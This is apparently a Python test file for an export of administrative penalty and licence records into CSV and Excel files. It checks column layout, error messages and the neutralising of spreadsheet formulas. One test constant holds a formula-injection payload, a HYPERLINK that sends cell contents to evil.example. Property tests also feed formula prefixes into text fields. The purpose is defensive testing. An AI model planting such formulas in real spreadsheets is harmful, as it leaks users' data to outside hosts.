"""`python -m generator export credit-platform`: the platform's columns, 万元 amounts, rows a clerk completes."""

from __future__ import annotations

import csv
import subprocess
from pathlib import Path

from commands import BARE, here
from openpyxl import load_workbook

from generator.datasets.decisions.platform import LICENSE_COLUMNS, PENALTY_COLUMNS

PROJECT = Path(__file__).resolve().parents[2]


def export(root: Path, out: Path, *extra: str) -> subprocess.CompletedProcess[str]:
    return here("export", "credit-platform", "--out", str(out), "--root", str(root), "--today", "2026-11-27", *extra,
                env=BARE)


def rows(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return list(csv.DictReader(handle))


def test_files_per_kind_and_party_with_standard_columns(root: Path, tmp_path: Path) -> None:
    result = export(root, tmp_path / "out")
    assert result.returncode == 0, result.stdout + result.stderr
    names = sorted(p.name for p in (tmp_path / "out").iterdir())
    assert names == sorted(f"{k}-{g}-{c}_2026112700.{s}" for k, c in (("行政处罚", "0301"), ("行政许可", "0102"))
                           for g in ("法人及非法人组织", "自然人") for s in ("csv", "xlsx"))
    people = rows(tmp_path / "out/行政处罚-自然人-0301_2026112700.csv")
    assert list(people[0]) == [code for code, _l, _s in PENALTY_COLUMNS]
    first = next(r for r in people if r["CF_WSH"] == "汾教科罚决字〔2026〕第2号")
    assert (first["CF_XDR_MC"], first["CF_NR_FK"], first["CF_JDRQ"], first["CF_GSJZQ"]) == (
        "白晓军", "0.3", "2026/03/17", "2027/03/19")  # full name, 3000 元, publicity end = published + 1 year
    assert first["CF_XDR_ZJHM"] == "" and first["CF_CFJG"] == "汾川县教育科技局"
    assert ("  须人工补填 CF_XDR_ZJHM（证件号码）：第 2、3、4、5 行（仓库中不保存证件号码等信息）"
            in result.stdout.splitlines())
    book = load_workbook(tmp_path / "out/行政许可-自然人-0102_2026112700.xlsx")
    header = [c.value for c in book.active[1]]
    assert header == [code for code, _l, _s in LICENSE_COLUMNS]
    assert book.active.cell(2, header.index("XK_YXQZI") + 1).value == "2099/12/31"


def test_since_needs_git_history_and_the_export_stays_outside_the_repository(root: Path, tmp_path: Path) -> None:
    result = export(root, tmp_path / "out", "--since", "2024-01-01")
    assert result.returncode == 2 and result.stdout == ""
    assert result.stderr == ("用法错误：--since 按 git 提交记录判断哪些决定是在那一天以后新增或改动的，"
                             f"但 {root} 不在 git 仓库中，无法判断。请在数据仓库的检出目录中运行，"
                             "或去掉 --since 导出今天正在公示的全部决定。没有导出任何文件。\n")
    assert not (tmp_path / "out").exists()
    later = export(root, tmp_path / "out", "--since", "2026-11-28")
    assert later.returncode == 2
    assert later.stderr == "用法错误：--since 2026-11-28 晚于导出日期 2026-11-27。没有导出任何文件。\n"
    inside = export(root, root / "data/export")
    assert inside.returncode == 2 and "不能写到" in inside.stderr and "仓库以外" in inside.stderr
    assert not (root / "data/export").exists()


# --- what Excel gets is data, never a formula ---------------------------------------------------------------------

import io  # noqa: E402
import shutil  # noqa: E402
from datetime import date  # noqa: E402

import pytest  # noqa: E402
from hypothesis import HealthCheck, given, settings  # noqa: E402
from hypothesis import strategies as st  # noqa: E402
from validator.helpers import copy_sample, set_cells  # noqa: E402

from generator.render.downloads import formula_like, neutralise, restore  # noqa: E402
from generator.staff.export import export_credit_platform  # noqa: E402

HYPERLINK = '=HYPERLINK("https://evil.example/?d="&A2,"点击查看")'
PERSON = "汾教科罚决字〔2026〕第2号"  # a 自然人's penalty under publicity: its file holds full names


def cells(path: Path) -> list[tuple[str, object]]:
    """Every cell of the export workbook as (type, value): openpyxl reads a formula as type "f", a number as "n",
    text as "s" (an empty text cell, kept for its text format, as "inlineStr" without a value)."""
    book = load_workbook(path)
    found = [(cell.data_type, cell.value) for row in book.active.iter_rows() for cell in row]
    return [("s", "") if (kind, value) == ("inlineStr", None) else (kind, value) for kind, value in found]


def test_a_formula_in_violation_facts_is_inert_text_in_both_files(root: Path, tmp_path: Path) -> None:
    set_cells(root, "penalties", PERSON, violation_facts=HYPERLINK)
    result = export(root, tmp_path / "out")
    assert result.returncode == 0, result.stderr
    base = tmp_path / "out/行政处罚-自然人-0301_2026112700"
    found = cells(base.with_suffix(".xlsx"))
    assert {kind for kind, _value in found} == {"s"}  # no formula, no number: every cell is text
    assert ("s", "'" + HYPERLINK) in found
    row = next(r for r in rows(base.with_suffix(".csv")) if r["CF_WSH"] == PERSON)
    assert row["CF_SY"] == "'" + HYPERLINK and restore(row["CF_SY"]) == HYPERLINK
    assert load_workbook(base.with_suffix(".xlsx")).active["A1"].number_format == "@"


#: What Excel, WPS or LibreOffice could take for the start of a formula: ASCII, after spaces of any width,
#: full-width and small forms, non-breaking spaces; and the apostrophe that marks text. (A zero-width character
#: before it never gets this far: the validator refuses it as a control-character, and export validates first.)
PREFIXES = st.sampled_from(["=", "+", "-", "@", "\t", " =", "\u3000＋", "＝", "﹦", "＠", "－", "\xa0@",
                            "'", "'=", "\t\t-"])
TEXT = st.text(st.characters(whitelist_categories=("Lu", "Ll", "Lo", "P", "S", "Zs")), max_size=12)  # no digits:
# the privacy gate would rightly refuse a phone number
PENALTY_TEXT = ["violation_type", "violation_facts", "legal_basis", "penalty_content", "remarks"]


@pytest.fixture(scope="module")
def shared(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return copy_sample(tmp_path_factory.mktemp("export") / "repo")


#: (dataset, file kind and code, a 自然人's decision, a 法人's decision, text fields a clerk types freely).
DECISIONS = [("penalties", "行政处罚", "0301", PERSON, "汾教科罚决字〔2026〕第5号", PENALTY_TEXT),
             ("licenses", "行政许可", "0102", "汾教科许决字〔2022〕第9号", "汾教科许决字〔2023〕第2号",
              ["doc_name", "certificate_name", "content", "remarks"])]


@settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(decision=st.sampled_from(DECISIONS), data=st.data(), prefix=PREFIXES, rest=TEXT, person=st.booleans())
def test_any_formula_prefix_in_any_text_field_is_inert_in_both_files(shared: Path, tmp_path_factory, decision,
                                                                     data: st.DataObject, prefix: str, rest: str,
                                                                     person: bool) -> None:
    dataset, kind, code, natural, legal, fields = decision
    column = data.draw(st.sampled_from(fields))
    original = (shared / f"data/{dataset}.csv").read_bytes()
    value = prefix + "HYPERLINK(x)" + rest
    out = tmp_path_factory.mktemp("out")
    try:
        set_cells(shared, dataset, natural if person else legal, **{column: value})
        export_credit_platform(shared, out, date(2026, 11, 27))
    finally:
        (shared / f"data/{dataset}.csv").write_bytes(original)
    base = out / f"{kind}-{'自然人' if person else '法人及非法人组织'}-{code}_2026112700"
    found = cells(base.with_suffix(".xlsx"))
    assert {kind for kind, _value in found} == {"s"}
    assert not any(formula_like(str(v)) and not str(v).startswith("'") for _kind, v in found)
    assert ("s", neutralise(value.strip())) in found or ("s", neutralise(value)) in found
    text = base.with_suffix(".csv").read_text(encoding="utf-8-sig")
    table = list(csv.reader(io.StringIO(text, newline="")))
    assert all(not formula_like(c) or c.startswith("'") for r in table for c in r)
    assert {restore(c) for r in table for c in r} & {value, value.strip()}
    shutil.rmtree(out)


@settings(max_examples=200, deadline=None)
@given(prefix=PREFIXES, rest=TEXT)
def test_neutralised_text_is_never_formula_like_and_restores_exactly(prefix: str, rest: str) -> None:
    for value in (prefix + rest, rest):
        shown = neutralise(value)
        assert restore(shown) == value and (shown == value or shown == "'" + value)
        assert not formula_like(shown) or shown.startswith("'")
